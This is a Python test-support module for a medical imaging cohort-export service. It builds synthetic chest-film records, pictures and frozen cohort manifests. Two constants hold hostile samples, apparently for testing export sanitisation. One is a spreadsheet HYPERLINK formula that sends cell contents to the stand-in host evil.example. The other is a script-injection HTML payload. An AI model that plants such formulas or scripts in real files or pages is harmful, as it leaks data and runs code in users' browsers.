"""A small archive of facts and pictures, and a frozen cohort of it, without an engine."""

from __future__ import annotations

import hashlib
import io
import json
from collections.abc import Mapping, Sequence
from dataclasses import asdict
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
from PIL import Image

from services.analytics.cohort.export.frozen import Count, Frozen, Model, Step
from services.core.blobs import Blobs
from services.core.facts import Facts, images, sets
from services.core.facts.images import Stored
from services.core.types import ImageRecord
from tests.kit.records import make_record

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
HTML = "<img src=x onerror=alert(1)><script>alert(1)</script>"
CREDENTIALED = "PhysioNet Credentialed Health Data License 1.5.0"
NAME = "adults"


def film(number: int, **fields: Any) -> ImageRecord:
    """Two films a patient; every third patient's dataset may not be handed on."""
    patient = number // 2
    closed = patient % 3 == 2
    known = {
        "dataset": "closed" if closed else "open", "patient_id": f"p-{patient}", "study_id": f"s-{number}",
        "study_date": f"2020-{patient % 12 + 1:02d}-{number % 2 + 1:02d}", "date_kind": "shifted",
        "view": "PA", "sex": ("F", "M")[patient % 2], "age": 40.0 + patient,
        "licence": CREDENTIALED if closed else "CC BY 4.0", "attribution": None if closed else "Hospital of X, 2020",
        "labels": {"edema": "present" if number % 2 else "absent"},
    }  # fmt: skip
    return make_record(f"film-{number}", **{**known, **fields})


def picture(number: int) -> bytes:
    """As the archive keeps them: WebP."""
    out = io.BytesIO()
    Image.new("L", (64, 48), 10 + number % 200).save(out, "WEBP", quality=80, method=0)
    return out.getvalue()


def keep(facts: Facts, blobs: Blobs, films: Sequence[ImageRecord], name: str = NAME) -> list[str]:
    """Store films with pictures, and the set of them all."""
    images.commit(facts, [Stored(one, blobs.put(picture(number)), ()) for number, one in enumerate(films)])
    sets.create(facts, name, sets.COHORT, "Adults", {}, [one.image_id for one in films])
    return sorted(one.image_id for one in films)


def publish(home: Path, facts: Facts, blobs: Blobs, films: Sequence[ImageRecord], name: str = NAME) -> Frozen:
    """The same with the record that a run leaves: with the set, and in the run's folder below `home`."""
    images.commit(facts, [Stored(one, blobs.put(picture(number)), ()) for number, one in enumerate(films)])
    return publish_stored(home, facts, films, name)


def publish_stored(home: Path, facts: Facts, films: Sequence[ImageRecord], name: str = NAME) -> Frozen:
    """The same of films that are stored already."""
    ids = sorted(one.image_id for one in films)
    known = frozen(ids, name)
    record = {
        "spec": {**known.spec}, "spec_sha256": "0" * 64, "ids_sha256": known.ids_sha256, "seed": 7,
        "counts": asdict(known.count),
        "steps": [{key: value for key, value in asdict(step).items() if value is not None} for step in known.steps],
    }  # fmt: skip
    sets.create(facts, name, sets.COHORT, "Adults", {"run_id": known.run_id, **record}, ids)
    folder = home / "runs" / known.run_id
    folder.mkdir(parents=True)
    pq.write_table(known.films, folder / "cohort.parquet")
    used = {one.name: {"fingerprint": one.fingerprint} for one in known.models}
    datasets = sorted({one.dataset for one in films})
    told = {**known.manifest, "models": used, "versions": {**known.versions}, "films_of": datasets, "cohort": record}
    (folder / "manifest.json").write_text(json.dumps(told))
    (folder / "tables.json").write_text(json.dumps({"tables": [*known.tables.values()]}))
    return known


def frozen(ids: Sequence[str], name: str = NAME, title: str = "", **fields: Any) -> Frozen:
    """The record of a cohort of these films, drawn from an archive twice as large."""
    films, patients = len(ids), (len(ids) + 1) // 2
    all_, left = Count(2 * films, 2 * films, 2 * patients), Count(films, films, patients)
    ids_sha256 = hashlib.sha256("\n".join(sorted(ids)).encode()).hexdigest()
    sides = ["train" if number % 4 else "test" for number in range(films)]
    spec: Mapping[str, Any] = {"name": name, "title": title, "seed": 7, "split": {"fractions": {"train": 0.75}}}
    known: dict[str, Any] = {
        "created_at": "2026-01-02T03:04:05+00:00", "run_id": "00000000-0000-4000-8000-000000000001",
        "ids_sha256": ids_sha256, "count": left, "spec": spec,
        "steps": [Step("Archive", "archive", "", all_, Count(0, 0, 0)),
                  Step("adults", "include", "age >= 18", left, Count(films, films, patients), Count(films, 1, 1))],
        "films": pa.table({"image_id": sorted(ids), "split": sides}), "manifest": {"kind": "cohort", "seed": 7},
        "models": [Model("tiny", "f" * 64)], "versions": {"hilum": "0.1.0", "python": "3.11"},
        "tables": {"table1": {"title": "Table 1", "columns": ["", "all"], "rows": [["films", str(films)]]}},
    }  # fmt: skip
    return Frozen(name=name, title=title, **{**known, **fields})


def written(bundle: Any, to: Path, after: str = "") -> dict[str, bytes]:
    """Every file of a bundle, by name; also below `to`."""
    found = {}
    for file in bundle.files(after):
        if hasattr(file, "chunks"):
            data = b"".join(file.chunks())
            assert hashlib.sha256(data).hexdigest() == file.sha256
            assert len(data) == file.size
            path = to / file.part.name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
            found[file.part.name] = data
    return found
